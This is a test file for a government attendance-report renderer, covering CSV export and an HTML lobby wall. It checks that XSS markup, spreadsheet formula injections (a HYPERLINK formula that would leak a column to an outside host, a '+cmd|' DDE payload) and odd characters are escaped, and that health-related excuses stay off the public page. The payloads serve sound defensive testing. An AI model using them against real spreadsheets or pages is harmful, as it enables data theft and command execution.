import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { EXCUSE_KINDS } from '../../../functions/core/model';
import { renderCsv } from '../../../functions/core/render/csv';
import { esc, lobbyWall, renderWall } from '../../../functions/core/render/html';
import { LABELS, localStamp, longDate } from '../../../functions/core/render/labels';
import { safeCell } from '../../../functions/core/render/spreadsheet-cell';
import { WALL_SCRIPT } from '../../../functions/core/render/wall-pager';
import type { Report } from '../../../functions/core/report';

const report: Report = {
  date: '2026-11-27',
  timezone: 'Asia/Jakarta',
  workday: true,
  generatedAt: '2026-11-27T01:30:00.000Z',
  version: 2,
  totals: { expected: 6, present: 1, late: 1, excused: 1, absent: 3 },
  units: [],
  absent: [
    { employeeId: 'e1', name: '<script>alert("x")</script>', unit: 'Dinas <Kesehatan>' },
    { employeeId: 'e2', name: "Ruth O'Neil & Sons", unit: 'Dinas <Kesehatan>' },
    { employeeId: 'e3', name: '=HYPERLINK("http://evil")', unit: 'Sekretariat Daerah' },
  ],
  late: [{ employeeId: 'e4', name: 'Budi; Nasution', unit: 'Sekretariat Daerah', at: '07:47' }],
  excused: [
    { employeeId: 'e5', name: 'Dewi "Ayu" Harahap', unit: 'Badan, Pendapatan', kind: 'sick' },
  ],
  flagged: [
    {
      employeeId: 'e4',
      name: 'Budi; Nasution',
      unit: 'Sekretariat Daerah',
      status: 'late',
      flags: ['near_edge'],
    },
    {
      employeeId: 'e6',
      name: 'Eko Pane',
      unit: 'Sekretariat Daerah',
      status: 'on_time',
      flags: ['shared_device', 'new_device'],
    },
  ],
};

describe('longDate', () => {
  it('writes the date the Indonesian way', () => {
    expect(longDate('2026-11-27', 'id')).toBe('Jumat, 27 November 2026');
    expect(longDate('2026-08-17', 'id')).toBe('Senin, 17 Agustus 2026');
    expect(longDate('2026-11-27', 'en')).toMatch(/^Friday,? 27 November 2026$/);
  });
});

describe('renderCsv', () => {
  it.each([
    ['id', ';'],
    ['en', ','],
  ] as const)(
    'starts with a BOM, uses %s with "%s", and parses back to the same rows',
    (lang, sep) => {
      const csv = renderCsv(report, lang);
      expect(csv.startsWith('\uFEFF')).toBe(true);
      const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
      expect(parsed.errors).toEqual([]);
      expect(parsed.meta.delimiter).toBe(sep);
      const [header, ...rows] = parsed.data;
      expect(header).toHaveLength(7);
      // 3 absent, 1 late, 1 excused, and 1 present with flags.
      expect(rows).toHaveLength(6);
      const byId = Object.fromEntries(rows.map((r) => [r[1], r]));
      expect(byId.e2?.[2]).toBe("Ruth O'Neil & Sons");
      expect(byId.e4?.[2]).toBe('Budi; Nasution');
      expect(byId.e4?.[5]).toBe('07:47');
      expect(byId.e6?.[6]).toBe(
        lang === 'id'
          ? 'perangkat dipakai pegawai lain, perangkat baru'
          : 'device used by another employee, new device',
      );
      expect(byId.e5?.[2]).toBe('Dewi "Ayu" Harahap');
      expect(byId.e5?.[0]).toBe('Badan, Pendapatan');
      // A formula is neutralised, not evaluated by Excel.
      expect(byId.e3?.[2]).toBe('\'=HYPERLINK("http://evil")');
    },
  );

  it('escapes a formula that spans lines (papaparse’s escapeFormulae lets it through)', () => {
    // From issue 12.1: a roster name that Excel would run as a HYPERLINK leaking column C.
    const name = '=HYPERLINK("http://x/?d="&C2,\n"Rina")';
    const unit = "+cmd|\n/C calc'!A0";
    const evil: Report = {
      ...report,
      absent: [{ employeeId: '@e7', name, unit }],
      late: [],
      excused: [],
      flagged: [],
    };
    for (const lang of ['id', 'en'] as const) {
      const rows = Papa.parse<string[]>(renderCsv(evil, lang).slice(1), {
        skipEmptyLines: true,
      }).data;
      expect(rows[1]?.slice(0, 3)).toEqual([`'${unit}`, "'@e7", `'${name}`]);
    }
  });

  it('lets no cell start like a formula, whatever the roster holds, and loses nothing', () => {
    const danger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', "'", ' ');
    // Text that often starts like a formula and holds separators, quotes and line breaks.
    const text = fc
      .tuple(
        fc.option(danger, { nil: '' }),
        fc.array(fc.oneof(danger, fc.string()), { maxLength: 6 }),
      )
      .map(([first, rest]) => first + rest.join(''));
    const person = fc.record({ employeeId: text, name: text, unit: text });
    fc.assert(
      fc.property(
        fc.array(person, { minLength: 1, maxLength: 8 }),
        fc.array(person, { maxLength: 4 }),
        fc.constantFrom('id' as const, 'en' as const),
        (absent, excused, lang) => {
          const r: Report = {
            ...report,
            absent,
            late: [],
            excused: excused.map((p) => ({ ...p, kind: 'sick' as const })),
            flagged: [],
          };
          const parsed = Papa.parse<string[]>(renderCsv(r, lang).slice(1), {
            delimiter: lang === 'id' ? ';' : ',',
            newline: '\r\n',
          });
          expect(parsed.errors).toEqual([]);
          const cells = parsed.data.slice(1, 1 + absent.length + excused.length);
          for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          // Each cell reads back as what was written, behind a ' when it looked like a formula.
          const back = new Set(cells.map((c) => JSON.stringify(c.slice(0, 3))));
          for (const p of [...absent, ...excused]) {
            const want = [p.unit, p.employeeId, p.name].map(safeCell);
            expect(back.has(JSON.stringify(want))).toBe(true);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('labels rows in the language asked for', () => {
    expect(renderCsv(report, 'id')).toContain('Tidak hadir');
    expect(renderCsv(report, 'id')).toContain('Sakit');
    expect(renderCsv(report, 'en')).toContain('Absent');
  });
});

describe('renderWall', () => {
  const html = renderWall(report, { lang: 'id' });

  it('shows names and units only: no ids, no flags', () => {
    expect(html).not.toContain('e1<');
    expect(html).not.toMatch(/>e\d</);
    expect(html).not.toContain('Eko Pane');
    expect(html).not.toContain('near_edge');
  });

  it('holds every absent name and unit, escaped', () => {
    for (const p of report.absent) {
      expect(html).toContain(`<li>${esc(p.name)}</li>`);
      expect(html).toContain(esc(p.unit));
    }
    expect(html).not.toContain('<script>');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('Ruth O&#39;Neil &amp; Sons');
  });

  // Issue 12.6: "Sakit" beside a name is health data, and the wall may be on the open internet.
  it('names the absent only: the late and the excused are counted, and no kind of excuse is shown', () => {
    const late = ['Budi Latif', 'Rina Terlambat'];
    const excused = EXCUSE_KINDS.map((kind, i) => ({
      employeeId: `x${i}`,
      name: `Pegawai Izin ${String.fromCharCode(65 + i)}`,
      unit: 'Dinas Kesehatan',
      kind,
      note: 'opname di RS',
    }));
    const day: Report = {
      ...report,
      totals: { expected: 10, present: 1, late: 2, excused: 5, absent: 3 },
      late: late.map((name, i) => ({
        employeeId: `l${i}`,
        name,
        unit: 'Dinas Kesehatan',
        at: '07:50',
      })),
      excused,
    };
    for (const lang of ['id', 'en'] as const) {
      for (const page of [renderWall(day, { lang }), renderWall(day, { lang, refreshS: 300 })]) {
        for (const name of [...late, ...excused.map((x) => x.name)])
          expect(page).not.toContain(name);
        expect(page).not.toContain('opname');
        expect(page).not.toContain('07:50');
        for (const l of ['id', 'en'] as const) {
          for (const word of Object.values(LABELS[l].kinds)) {
            expect(page, `${lang}: ${word}`).not.toMatch(new RegExp(`\\b${word}\\b`, 'i'));
          }
          expect(page).not.toMatch(new RegExp(`\\b${LABELS[l].reason}\\b`));
        }
        const L = LABELS[lang];
        expect(page).toContain(`${L.late}: <b>2</b>`);
        expect(page).toContain(`${L.excused}: <b>5</b>`);
        expect(page).toContain(`${L.absent}: <b>3</b>`);
      }
    }
    // The admins' CSV keeps them, with their kind.
    const csv = renderCsv(day, 'id');
    for (const name of [...late, ...excused.map((x) => x.name)]) expect(csv).toContain(name);
    for (const word of Object.values(LABELS.id.kinds)) expect(csv).toContain(word);
  });

  it('is Indonesian by default: title, date, totals', () => {
    expect(html).toContain('<html lang="id">');
    expect(html).toContain('<h1>Daftar Pegawai Tidak Hadir Apel Pagi</h1>');
    expect(html).toContain('<p class="date">Jumat, 27 November 2026</p>');
    expect(html).toMatch(/Tidak hadir: <b>3<\/b>/);
    expect(html).toContain('Tidak hadir tanpa keterangan (3)');
    expect(html).toContain('@page{size:A4');
  });

  it('heads every unit, and gives it the heading its later columns and pages repeat', () => {
    const h3 = (unit: string, n: number) =>
      `<h3>${unit} <span class="tag"><span>(${n})</span><span class="off">(lanjutan)</span></span></h3>`;
    expect(html).toContain(h3('Dinas &lt;Kesehatan&gt;', 2));
    expect(html).toContain(h3('Sekretariat Daerah', 1));
    // On paper: the table head, repeated by the printer on each page the unit runs onto.
    expect(html).toContain(
      '<thead aria-hidden="true"><tr><th>Dinas &lt;Kesehatan&gt; <span class="tag"><span class="off">(2)</span><span>(lanjutan)</span></span></th></tr></thead>',
    );
    // On a TV: what the pager writes atop each column a unit runs onto.
    expect(html).toContain('<ol data-cont="Dinas &lt;Kesehatan&gt; (lanjutan)">');
    expect(renderWall(report, { lang: 'en' })).toContain(
      'data-cont="Sekretariat Daerah (continued)"',
    );
    // The title and the date head every printed sheet: the page's table head.
    expect(html).toMatch(/<table class="sheet" role="presentation"><thead><tr><th>\s*<header><h1>/);
    expect(html).toContain('content:"Halaman " counter(page) " dari " counter(pages)');
  });

  it('runs under the wall’s Content-Security-Policy: no inline style attribute or handler, one script', () => {
    const lobby = renderWall(report, { lang: 'id', refreshS: 300 });
    for (const page of [html, lobby]) {
      expect(page).not.toMatch(/\sstyle=/);
      expect(page).not.toMatch(/\son[a-z]+=/);
    }
    // The one script is the pager, allowed by its hash; it parses.
    expect(lobby.match(/<script>/g)).toHaveLength(1);
    expect(lobby).toContain(`<script>${WALL_SCRIPT}</script>`);
    expect(() => new Function(WALL_SCRIPT)).not.toThrow();
    expect(html).not.toContain('<script');
  });

  it('speaks English on request and runs itself on a lobby screen', () => {
    const en = renderWall(report, { lang: 'en', refreshS: 300 });
    expect(en).toContain('<html lang="en">');
    expect(en).toContain('<body data-refresh="300">');
    expect(en).toContain('Absent without an excuse (3)');
    expect(en).toContain('<p class="screen" data-of="Screen {i} of {n}" aria-hidden="true"></p>');
    // Without script (a TV that blocks it) the page still reloads.
    expect(en).toContain('<noscript><meta http-equiv="refresh" content="300"></noscript>');
    expect(html).not.toContain('http-equiv="refresh"');
    expect(html).not.toContain('class="screen"');
  });

  it('signs the footer with the publication time in the deployment’s zone, year in full', () => {
    // 2026-11-27T01:30Z: 08.30 in Jakarta (WIB), 09.30 in Makassar (WITA).
    expect(html).toContain('<footer>Diperbarui 27 November 2026 pukul 08.30 WIB, versi 2 · apel');
    expect(renderWall(report, { lang: 'en' })).toContain(
      '<footer>Corrected 27 November 2026, 08:30 WIB, version 2 · apel',
    );
    const wita = { ...report, timezone: 'Asia/Makassar' };
    expect(renderWall(wita, { lang: 'id' })).toContain(
      '<footer>Diperbarui 27 November 2026 pukul 09.30 WITA, versi 2',
    );
    expect(renderWall(wita, { lang: 'en' })).toContain(
      '<footer>Corrected 27 November 2026, 09:30 WITA, version 2',
    );
  });

  it('takes the date in the deployment’s zone too, and names a zone outside Indonesia as Intl does', () => {
    const at = '2026-11-26T23:05:00.000Z';
    expect(localStamp(at, 'Asia/Jayapura', 'id')).toBe('27 November 2026 pukul 08.05 WIT');
    expect(localStamp(at, 'Asia/Pontianak', 'en')).toBe('27 November 2026, 06:05 WIB');
    expect(localStamp(at, 'UTC', 'en')).toBe('26 November 2026, 23:05 UTC');
  });

  it('says so on a holiday and lists nobody', () => {
    const holiday = renderWall(
      {
        ...report,
        workday: false,
        holiday: 'Hari Raya Natal',
        absent: [],
        excused: [],
        late: [],
        flagged: [],
      },
      { lang: 'id' },
    );
    expect(holiday).toContain('Hari Raya Natal. Bukan hari kerja; tidak ada apel.');
    expect(holiday).not.toContain('<ol');
  });
});

describe('lobbyWall: the lobby page from the stored file', () => {
  it('adds the pager, its line and the reload to a page it knows, and refuses one it does not', () => {
    const file = renderWall(report, { lang: 'en' });
    const lobby = lobbyWall(file, 'en', 120) as string;
    expect(lobby).toBe(renderWall(report, { lang: 'en', refreshS: 120 }));
    expect(lobby.length).toBeGreaterThan(file.length);
    expect(lobby).toContain('<body data-refresh="120">');
    expect(lobby).toContain(`<script>${WALL_SCRIPT}</script></body>`);
    expect(lobbyWall('<html><p>someone else’s page</p></html>', 'en', 120)).toBeNull();
  });
});
